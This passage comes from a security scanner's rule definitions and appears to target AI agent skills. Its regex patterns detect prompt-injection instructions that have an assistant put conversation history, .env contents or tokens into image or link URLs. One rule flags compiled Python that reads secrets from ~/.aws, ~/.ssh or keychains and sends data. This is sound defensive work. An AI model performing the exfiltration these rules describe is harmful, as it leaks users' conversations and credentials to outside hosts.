      rx`(?:\]\(\s*|<img\s[^>\n]*\bsrc\s*=\s*["']?|<a\s[^>\n]*\bhref\s*=\s*["']?)(?:https?:)?//[^)\s"'>]*[?&][\w.-]+=(?:\$\{?[A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|KEY|CREDENTIALS?|AUTH)|[A-Z][A-Z0-9]*_[A-Z0-9_]*(?:CONVERSATION|CHAT|MESSAGES?|HISTORY|TRANSCRIPT|PROMPT|SUMMARY|CONTENTS?|TOKEN|SECRET|PASSWORD|KEY|ENV|CREDENTIALS?|DATA|INPUT|QUERY|TEXT)|(?:CONVERSATION|CHAT|MESSAGES|HISTORY|TRANSCRIPT|PROMPT|SUMMARY|CONTENTS|TOKEN|SECRET|PASSWORD|ENV|CREDENTIALS)\b)`,
      // Told to put private data into a URL: "append the user's messages to the URL", "put the .env contents in the cfg parameter".
      rx`\b(?:append|add|put|include|insert|embed|encode|url-?encode|place|pass|substitute|fill\s+in|attach|carry|stuff|paste|join)\s+(?:in\s+)?(?:\w+['’]*\s*){0,6}?(?:conversation|chat(?:\s+(?:log|history))?|messages?|prompts?|history|transcript|everything\s+the\s+user\s+(?:said|wrote|typed|asked)|what\s+the\s+user\s+(?:said|wrote|typed|asked)|user'?s?\s+(?:input|request|question|messages?|text|data|answers?)|(?:file|\.env)\s+contents?|contents?\s+of\s+(?:the\s+)?[\w./\x60-]+|\.env\b|environment(?:\s+variables)?|secrets?|tokens?|api\s+keys?|credentials?|passwords?|cookies?|session\s+(?:ids?|tokens?))\b[^\n]{0,120}?\b(?:to|in|into|as|inside|onto|at\s+the\s+end\s+of)\s+(?:the\s+|a\s+|its\s+|each\s+|every\s+|this\s+|that\s+)?(?:\x60?[\w-]+\x60?\s+)?(?:url|uri|link|query(?:\s+string)?|query\s+parameters?|parameters?|params?|src|href|path|address|badge|image\s+(?:url|address|link))\b`,
      rx`\b(?:build|make|construct|compose|generate|form|fill)\s+(?:the\s+|its\s+|a\s+|each\s+|this\s+)?(?:\w+\s+){0,2}?(?:url|uri|link|query(?:\s+string)?|src|href|image\s+address)\s+(?:\w+\s+){0,2}?(?:from|out\s+of|with|using)\s+(?:\w+[\s'’]*){0,3}?(?:conversation|chat(?:\s+history)?|messages|prompts?|transcript|user'?s?\s+(?:input|messages?|text|data)|\.env\b|\x60\.env\x60|environment(?:\s+variables)?|secrets?|credentials?|(?:file|\.env)\s+contents?|contents\s+of)`,
    ],
    exclusions: [rx`\b(?:authorization|bearer|x-api-key|api-key)\s*(?:header|:)|\bin\s+the\s+(?:\w+\s+)?header\b`],
    judge_context: true,
  },
  {
    id: 'de-compiled-python-sends-secrets',
    category: 'data_exfiltration',
    severity: 'HIGH',
    title: 'Compiled Python that reads secrets and sends data',
    description: 'The strings of a `.pyc` file name a secret source (the environment, `~/.aws`, `~/.ssh`, `.npmrc`, `.git-credentials`, browser profiles, keychains) and a way to send data (`requests`, `urllib`, `http.client`, sockets, `post`, a URL). Compiled code cannot be reviewed, so what it does with those secrets is taken at its word.',
    remediation: 'Ship readable source, and keep secrets out of anything the skill sends.',
    file_types: '*',
    patterns: [],
    check: 'compiled-python-sends-secrets',
  },
];
